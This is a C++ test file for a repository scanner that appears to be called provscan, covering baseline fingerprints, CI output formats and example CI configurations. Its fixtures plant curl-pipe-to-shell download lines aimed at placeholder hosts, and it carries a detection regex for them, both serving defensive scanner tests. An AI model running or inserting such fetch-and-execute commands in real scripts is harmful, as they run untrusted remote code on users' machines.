// The CI gate: --baseline, the CI-facing formats (junit, gitlab), and the example CI files in
// examples/ci/ run as CI runs them, against repositories built at test time.
#include "scanner/baseline.h"

#include <cstdlib>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <tuple>
#include <vector>

#include <doctest/doctest.h>
#include <nlohmann/json.hpp>

#include "common/error.h"
#include "tests/support/fixture_repo.h"
#include "tests/support/run_cli.h"

using namespace provscan::test;
using nlohmann::json;


namespace {

const char* kRules = R"(rules:
  - id: t.fetch-pipe
    engine: signature
    severity: high
    message: "pipe to shell"
    regex: 'curl[^|\n]*\|\s*sh\b'
)";

std::string binary_dir() { return PROVSCAN_BINARY_DIR; }

// The repository of the baseline tests: `add` plants a pipe-to-shell on line 2 of install.sh.
struct Repo {
  FixtureRepo repo;
  TempDir dir;
  std::string rules, base, add;
  Repo() {
    rules = dir.file("rules.yaml", kRules);
    base = repo.commit("base", {{"README", "hello\n"}});
    add = repo.commit("add", {{"install.sh", "#!/bin/sh\ncurl -s https://x.invalid/i.sh | sh\n"}});
  }
  std::vector<std::string> args(std::vector<std::string> extra) const {
    std::vector<std::string> a = {"scan", repo.path(), "--no-default-rules", "--rules", rules};
    a.insert(a.end(), extra.begin(), extra.end());
    return a;
  }
  // An earlier run's JSON, as a CI job keeps it.
  std::string save_baseline(const std::string& range) const {
    const std::string file = dir.path() + "/baseline-" + std::to_string(++saved_) + ".json";
    const CliResult res = run_provscan(args({"--range", range, "--format", "json", "--output", file}));
    REQUIRE(res.exit_code == 1);
    return file;
  }
  mutable int saved_ = 0;
};

std::string error_of(const std::string& file) {
  try {
    (void)provscan::scan::load_baseline_fingerprints(file);
  } catch (const provscan::InputError& e) {
    return e.what();
  }
  return "(no error)";
}

}  // namespace

TEST_CASE("load_baseline_fingerprints reads every fingerprint of a provscan/1 report") {
  TempDir tmp;
  const std::string file = tmp.file(
      "b.json",
      R"({"schema": "provscan/1", "findings": [{"fingerprint": "aa"}, {"fingerprint": "bb", "line": 3}, {"fingerprint": "aa"}]})");
  CHECK(provscan::scan::load_baseline_fingerprints(file) == std::set<std::string>{"aa", "bb"});
  const std::string empty = tmp.file("e.json", R"({"schema": "provscan/1", "findings": []})");
  CHECK(provscan::scan::load_baseline_fingerprints(empty).empty());
}

TEST_CASE("load_baseline_fingerprints: an untrustworthy baseline is an error naming the file, never empty") {
  TempDir tmp;
  const std::string missing = tmp.path() + "/missing.json";
  CHECK(error_of(missing) == missing + ": cannot read the baseline: No such file or directory");
  CHECK(error_of(tmp.path()) == tmp.path() + ": cannot read the baseline: it is a directory");
  CHECK(error_of("") == "the baseline file name is empty");
  const std::string hint = "give the output of an earlier `provscan scan --format json`";
  const std::string bad = tmp.file("bad.json", "{\n  \"schema\": \"provscan/1\",\n  \"findings\": [x]\n}\n");
  CHECK(error_of(bad) == bad + ":3:16: the baseline is not valid JSON; " + hint);
  const std::string truncated = tmp.file("trunc.json", "{\"schema\": \"provscan/1\", \"findings\": [");
  CHECK(error_of(truncated) == truncated + ":1:39: the baseline is not valid JSON; " + hint);
  const std::string sarif = tmp.file("x.sarif", R"({"version": "2.1.0", "runs": []})");
  CHECK(error_of(sarif) == sarif + ": the baseline is not provscan/1 JSON (no \"schema\": \"provscan/1\"); " + hint);
  const std::string array = tmp.file("a.json", "[]");
  CHECK(error_of(array) == array + ": the baseline is not provscan/1 JSON (no \"schema\": \"provscan/1\"); " + hint);
  const std::string no_findings = tmp.file("n.json", R"({"schema": "provscan/1"})");
  CHECK(error_of(no_findings) == no_findings + ": the baseline has no \"findings\" array; " + hint);
  const std::string no_fp = tmp.file(
      "f.json", R"({"schema": "provscan/1", "findings": [{"fingerprint": "aa"}, {"rule_id": "x"}]})");
  CHECK(error_of(no_fp) == no_fp + ": the baseline's findings[1] has no \"fingerprint\" string");
  const std::string empty_fp =
      tmp.file("g.json", R"({"schema": "provscan/1", "findings": [{"fingerprint": ""}]})");
  CHECK(error_of(empty_fp) == empty_fp + ": the baseline's findings[0] has no \"fingerprint\" string");
  const std::string number_fp =
      tmp.file("h.json", R"({"schema": "provscan/1", "findings": [{"fingerprint": 7}]})");
  CHECK(error_of(number_fp) == number_fp + ": the baseline's findings[0] has no \"fingerprint\" string");
}

TEST_CASE("apply_baseline marks exactly the findings whose fingerprint is known") {
  provscan::scan::ScanResult r;
  r.findings.resize(3);
  r.findings[0].fingerprint = "aa";
  r.findings[1].fingerprint = "bb";
  r.findings[2].fingerprint = "";
  r.findings[2].baselined = true;  // stale mark: apply_baseline decides afresh
  provscan::scan::apply_baseline(r, {"aa", "cc"});
  CHECK(r.findings[0].baselined);
  CHECK_FALSE(r.findings[1].baselined);
  CHECK_FALSE(r.findings[2].baselined);
}

TEST_CASE("baseline: known findings do not fail the gate and stay in the outputs, marked") {
  Repo r;
  const std::string baseline = r.save_baseline("HEAD");
  CHECK(run_provscan(r.args({})).exit_code == 1);
  CliResult res = run_provscan(r.args({"--baseline", baseline, "--format", "json"}));
  CHECK(res.exit_code == 0);
  json j = json::parse(res.out);
  REQUIRE(j["findings"].size() == 1);
  CHECK(j["findings"][0]["baselined"] == true);
  CHECK(j["findings"][0]["line"] == 2);

  res = run_provscan(r.args({"--baseline", baseline, "--format", "sarif"}));
  CHECK(res.exit_code == 0);
  CHECK(json::parse(res.out)["runs"][0]["results"][0]["baselineState"] == "unchanged");
  // without --baseline there was no comparison: no baselineState at all
  res = run_provscan(r.args({"--format", "sarif"}));
  CHECK_FALSE(json::parse(res.out)["runs"][0]["results"][0].contains("baselineState"));

  TempDir out;
  res = run_provscan(r.args({"--baseline", baseline, "--output", out.path() + "/summary.txt"}));
  CHECK(res.exit_code == 0);
  const std::string summary = read_text(out.path() + "/summary.txt");
  CHECK(summary.find("install.sh:2 [baselined] (commit") != std::string::npos);
  CHECK(summary.find("\n1 finding (1 high; 1 baselined) in 2 commits;") != std::string::npos);
}

// What a fingerprint guarantees (rule, path, matched text without blanks, occurrence in its
// commit; no line number, no commit id): a finding scanned again in a later range keeps it, and
// so does the same text re-added at another line or indentation of the same path. Lines
// inserted above an untouched hit are no finding at all: a commit is charged only with lines it
// added.
TEST_CASE("baseline: line shifts and re-indentation do not resurrect a known finding") {
  Repo r;
  const std::string baseline = r.save_baseline("HEAD");
  const std::string known_fp = json::parse(read_text(baseline))["findings"][0]["fingerprint"];

  // Lines inserted above the hit: the hit moves to line 5 but nothing new is added there.
  const std::string shift = r.repo.commit(
      "shift", {{"install.sh", "#!/bin/sh\n# fetch the installer\nset -e\nset -u\ncurl -s https://x.invalid/i.sh | sh\n"}});
  CliResult res = run_provscan(r.args({"--range", r.add + "..HEAD", "--format", "json"}));
  CHECK(res.exit_code == 0);
  CHECK(json::parse(res.out)["findings"].empty());

  // The hit line rewritten (re-indented, blanks changed) further down: the commit adds it again,
  // so it is reported, at its new line, with the fingerprint the baseline knows.
  r.repo.commit("reindent", {{"install.sh", "#!/bin/sh\n# fetch the installer\nset -e\nset -u\n\nif true; then\n"
                                            "    curl -s  https://x.invalid/i.sh |  sh\nfi\n"}});
  res = run_provscan(r.args({"--range", shift + "..HEAD", "--format", "json"}));
  CHECK(res.exit_code == 1);  // without the baseline it fails the gate
  res = run_provscan(r.args({"--range", shift + "..HEAD", "--baseline", baseline, "--format", "json"}));
  CHECK(res.exit_code == 0);
  json j = json::parse(res.out);
  REQUIRE(j["findings"].size() == 1);
  CHECK(j["findings"][0]["line"] == 7);
  CHECK(j["findings"][0]["fingerprint"] == known_fp);
  CHECK(j["findings"][0]["baselined"] == true);

  // The whole history again, later commits included: both reports of the text are known.
  res = run_provscan(r.args({"--baseline", baseline, "--format", "json"}));
  CHECK(res.exit_code == 0);
  j = json::parse(res.out);
  REQUIRE(j["findings"].size() == 2);
  for (const json& f : j["findings"]) CHECK(f["baselined"] == true);
}

TEST_CASE("baseline: a new finding still fails the gate, next to the known ones") {
  Repo r;
  const std::string baseline = r.save_baseline("HEAD");
  // The same text at another path is a different finding; so is new text at the known path.
  r.repo.commit("new", {{"setup.sh", "curl -s https://x.invalid/i.sh | sh\n"},
                        {"install.sh", "#!/bin/sh\ncurl -s https://x.invalid/i.sh | sh\ncurl https://y.invalid | sh\n"}});
  CliResult res = run_provscan(r.args({"--baseline", baseline, "--format", "json"}));
  CHECK(res.exit_code == 1);
  const json j = json::parse(res.out);
  std::vector<std::tuple<std::string, int, bool>> got;
  for (const json& f : j["findings"]) got.emplace_back(f["path"], f["line"], f["baselined"]);
  CHECK(got == std::vector<std::tuple<std::string, int, bool>>{
                   {"install.sh", 2, true}, {"install.sh", 3, false}, {"setup.sh", 1, false}});

  res = run_provscan(r.args({"--baseline", baseline, "--format", "sarif"}));
  CHECK(res.exit_code == 1);
  const json sarif = json::parse(res.out);
  std::vector<std::string> states;
  for (const json& result : sarif["runs"][0]["results"]) states.push_back(result["baselineState"]);
  CHECK(states == std::vector<std::string>{"unchanged", "new", "new"});

  // --fail-on still applies to the new findings only
  CHECK(run_provscan(r.args({"--baseline", baseline, "--fail-on", "critical"})).exit_code == 0);
  // a baseline of the new state makes everything known
  const std::string later = r.save_baseline("HEAD");
  CHECK(run_provscan(r.args({"--baseline", later})).exit_code == 0);
}

TEST_CASE("baseline errors exit 2 before scanning, and outrank findings") {
  Repo r;
  TempDir tmp;
  const std::string missing = tmp.path() + "/nope.json";
  CliResult res = run_provscan(r.args({"--baseline", missing}));
  CHECK(res.exit_code == 2);
  CHECK(res.err == "provscan: error: " + missing + ": cannot read the baseline: No such file or directory\n");

  const std::string sarif = tmp.path() + "/prev.sarif";
  REQUIRE(run_provscan(r.args({"--format", "sarif", "--output", sarif})).exit_code == 1);
  res = run_provscan(r.args({"--baseline", sarif, "--format", "json"}));
  CHECK(res.exit_code == 2);
  CHECK(res.out.empty());  // no report from a run whose gate cannot be trusted
  CHECK(res.err == "provscan: error: " + sarif +
                       ": the baseline is not provscan/1 JSON (no \"schema\": \"provscan/1\"); give the output "
                       "of an earlier `provscan scan --format json`\n");

  res = run_provscan(r.args({"--baseline", ""}));  // an empty name is not "no baseline"
  CHECK(res.exit_code == 2);
  CHECK(res.err == "provscan: error: the baseline file name is empty\n");

  const std::string garbage = tmp.file("garbage.json", "provscan found nothing\n");
  res = run_provscan(r.args({"--baseline", garbage}));
  CHECK(res.exit_code == 2);
  CHECK(res.err.find(garbage + ":1:1: the baseline is not valid JSON") != std::string::npos);
}

TEST_CASE("junit and gitlab formats from the command line, alone and in an output folder") {
  Repo r;
  CliResult res = run_provscan(r.args({"--format", "junit"}));
  CHECK(res.exit_code == 1);
  // five rules ran: the rule file's and the built-in provenance checks (mailmap-changed,
  // hostile-path, suppression-not-allowed, suppression-without-reason)
  CHECK(res.out.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"provscan\" tests=\"5\" "
                            "failures=\"1\""));
  CHECK(res.out.find("<testcase name=\"provenance.mailmap-changed\" classname=\"provscan.provenance\"/>") !=
        std::string::npos);
  CHECK(res.out.find("<testcase name=\"t.fetch-pipe\" classname=\"provscan.signature\">") != std::string::npos);
  CHECK(res.out.find("<failure type=\"high\" message=\"pipe to shell\">install.sh:2\ncommit " + r.add) !=
        std::string::npos);

  res = run_provscan(r.args({"--format", "gitlab"}));
  CHECK(res.exit_code == 1);
  const json issues = json::parse(res.out);
  REQUIRE(issues.size() == 1);
  CHECK(issues[0]["check_name"] == "t.fetch-pipe");
  CHECK(issues[0]["severity"] == "critical");
  CHECK(issues[0]["location"] == json{{"path", "install.sh"}, {"lines", {{"begin", 2}}}});

  TempDir out;
  res = run_provscan(r.args({"--format", "junit", "--format", "gitlab", "--format", "json", "--output", out.path()}));
  CHECK(res.exit_code == 1);
  CHECK(read_text(out.path() + "/provscan-junit.xml").starts_with("<?xml"));
  CHECK(json::parse(read_text(out.path() + "/gl-code-quality-report.json")).size() == 1);
  CHECK(json::parse(read_text(out.path() + "/provscan.json"))["schema"] == "provscan/1");

  res = run_provscan(r.args({"--format", "xml"}));
  CHECK(res.exit_code == 2);
  res = run_provscan({"scan", "--help"});
  CHECK(res.exit_code == 0);
  for (const char* word : {"junit", "gitlab", "--baseline"}) CHECK_MESSAGE(res.out.find(word) != std::string::npos, word);
}

// ---- examples/ci: the command lines the CI files run, run against a fixture ---------------

namespace {

std::string example(const std::string& name) { return read_text(source_dir() + "/examples/ci/" + name); }

// The one `provscan scan ...` command line of a CI file (comment lines aside), as written.
std::string scan_command_of(const std::string& text) {
  std::vector<std::string> found;
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    const auto first = line.find_first_not_of(" \t");
    if (first == std::string::npos || line[first] == '#') continue;
    const auto at = line.find("provscan scan ");
    if (at == std::string::npos) continue;
    std::string cmd = line.substr(at);
    cmd.erase(cmd.find_last_not_of(" \t\r") + 1);
    found.push_back(cmd);
  }
  REQUIRE(found.size() == 1);
  return found.front();
}

std::string replace_all(std::string s, const std::string& from, const std::string& to) {
  for (auto at = s.find(from); at != std::string::npos; at = s.find(from, at + to.size())) s.replace(at, from.size(), to);
  return s;
}

// A pull request on a fixture: `base` is clean, the change adds a download piped to a shell,
// which the bundled packs flag (sh.fetch-pipe-to-shell, high).
struct PullRequest {
  FixtureRepo repo;
  std::string base, clean_change, head;
  PullRequest() {
    base = repo.commit("base", {{"README.md", "# demo\n"}, {"install.sh", "#!/bin/sh\necho installing\n"}});
    clean_change = repo.commit("docs", {{"README.md", "# demo\n\nRun install.sh.\n"}});
    head = repo.commit("installer",
                       {{"install.sh", "#!/bin/sh\necho installing\ncurl -fsSL https://get.example.invalid/x.sh | sh\n"}});
  }
};

// Runs a CI file's scan command as the runner would (a shell, in the checked-out work tree, with
// `provscan` on PATH), the CI system's range variables replaced by the fixture's commits.
CliResult run_ci_command(const PullRequest& pr, const std::string& cmd,
                         const std::map<std::string, std::string>& range_vars) {
  std::string line = cmd;
  for (const auto& [var, value] : range_vars) line = replace_all(line, var, value);
  INFO("command: " << line);
  REQUIRE(line.find('$') == std::string::npos);
  return run_command({"/bin/sh", "-c", line}, pr.repo.path(), {{"PATH", binary_dir() + ":" + std::getenv("PATH")}});
}

}  // namespace

TEST_CASE("examples/ci/github-actions.yml: its scan command is the README's and gates a pull request") {
  const std::string cmd = scan_command_of(example("github-actions.yml"));
  CHECK(cmd ==
        "provscan scan --range ${{ github.event.pull_request.base.sha }}..${{ github.event.pull_request.head.sha }} "
        "--format sarif --output provscan.sarif");
  CHECK(read_text(source_dir() + "/README.md").find("\n    " + cmd + "\n") != std::string::npos);
  const std::string workflow = example("github-actions.yml");
  CHECK(workflow.find("fetch-depth: 0") != std::string::npos);
  CHECK(workflow.find("scripts/setup.sh") != std::string::npos);
  CHECK(workflow.find("uses: github/codeql-action/upload-sarif@") != std::string::npos);
  CHECK(workflow.find("sarif_file: provscan.sarif") != std::string::npos);
  CHECK(workflow.find("security-events: write") != std::string::npos);

  PullRequest pr;
  // GitHub substitutes ${{ ... }} before the shell runs; the SHAs contain no blank.
  auto run = [&](const std::string& base, const std::string& head) {
    const std::string expr_base = "${{ github.event.pull_request.base.sha }}";
    const std::string expr_head = "${{ github.event.pull_request.head.sha }}";
    return run_ci_command(pr, cmd, {{expr_base, base}, {expr_head, head}});
  };
  CliResult res = run(pr.base, pr.head);
  INFO(res.err);
  CHECK(res.exit_code == 1);
  json sarif = json::parse(read_text(pr.repo.path() + "/provscan.sarif"));
  CHECK(sarif["version"] == "2.1.0");
  REQUIRE(sarif["runs"][0]["results"].size() == 1);
  CHECK(sarif["runs"][0]["results"][0]["ruleId"] == "sh.fetch-pipe-to-shell");
  CHECK(sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "install.sh");
  CHECK(sarif["runs"][0]["properties"]["commits"] == 2);  // only what the pull request adds

  res = run(pr.base, pr.clean_change);  // a clean pull request passes
  CHECK(res.exit_code == 0);
  sarif = json::parse(read_text(pr.repo.path() + "/provscan.sarif"));
  CHECK(sarif["runs"][0]["results"].empty());
}

TEST_CASE("examples/ci/gitlab-ci.yml: its scan command is the README's and writes a Code Quality report") {
  const std::string job = example("gitlab-ci.yml");
  const std::string cmd = scan_command_of(job);
  CHECK(cmd ==
        "provscan scan --range $CI_MERGE_REQUEST_DIFF_BASE_SHA..$CI_COMMIT_SHA --format gitlab --output "
        "gl-code-quality-report.json");
  CHECK(read_text(source_dir() + "/README.md").find("\n    " + cmd + "\n") != std::string::npos);
  CHECK(job.find("codequality: gl-code-quality-report.json") != std::string::npos);
  CHECK(job.find("GIT_DEPTH: \"0\"") != std::string::npos);
  CHECK(job.find("when: always") != std::string::npos);

  PullRequest pr;
  auto run = [&](const std::string& base, const std::string& head) {
    return run_ci_command(pr, cmd, {{"$CI_MERGE_REQUEST_DIFF_BASE_SHA", base}, {"$CI_COMMIT_SHA", head}});
  };
  CliResult res = run(pr.base, pr.head);
  INFO(res.err);
  CHECK(res.exit_code == 1);
  json report = json::parse(read_text(pr.repo.path() + "/gl-code-quality-report.json"));
  REQUIRE(report.is_array());
  REQUIRE(report.size() == 1);
  CHECK(report[0]["check_name"] == "sh.fetch-pipe-to-shell");
  CHECK(report[0]["severity"] == "critical");
  CHECK(report[0]["location"]["path"] == "install.sh");
  CHECK(report[0]["location"]["lines"]["begin"] == 3);
  CHECK(report[0]["fingerprint"].get<std::string>().size() == 32);

  res = run(pr.base, pr.clean_change);
  CHECK(res.exit_code == 0);
  CHECK(json::parse(read_text(pr.repo.path() + "/gl-code-quality-report.json")) == json::array());
}

TEST_CASE("examples/ci/.pre-commit-hooks.yaml: the hook scans the commits being pushed") {
  const std::string hooks = example(".pre-commit-hooks.yaml");
  CHECK(hooks.find("language: system") != std::string::npos);
  CHECK(hooks.find("pass_filenames: false") != std::string::npos);
  CHECK(hooks.find("stages: [pre-push]") != std::string::npos);
  std::smatch m;
  REQUIRE(std::regex_search(hooks, m, std::regex("\n  entry: ([^\n]+)\n")));
  const std::string entry = m[1];

  PullRequest pr;
  // pre-commit splits `entry` as a shell does (shlex) and runs it in the work tree.
  auto hook = [&](std::map<std::string, std::string> env) {
    env["PATH"] = binary_dir() + ":" + std::getenv("PATH");
    return run_command({"/bin/sh", "-c", entry}, pr.repo.path(), env);
  };
  CliResult res = hook({{"PRE_COMMIT_FROM_REF", pr.base}, {"PRE_COMMIT_TO_REF", pr.head}});
  INFO(res.err);
  CHECK(res.exit_code == 1);
  CHECK(res.out.find("sh.fetch-pipe-to-shell install.sh:3") != std::string::npos);
  CHECK(res.out.find("in 2 commits") != std::string::npos);
  CHECK(hook({{"PRE_COMMIT_FROM_REF", pr.base}, {"PRE_COMMIT_TO_REF", pr.clean_change}}).exit_code == 0);
  // A push that brings a root commit: no FROM_REF, everything reachable from HEAD.
  res = hook({{"PRE_COMMIT_FROM_REF", ""}, {"PRE_COMMIT_TO_REF", ""}});
  CHECK(res.exit_code == 1);
  CHECK(res.out.find("in 3 commits") != std::string::npos);
}
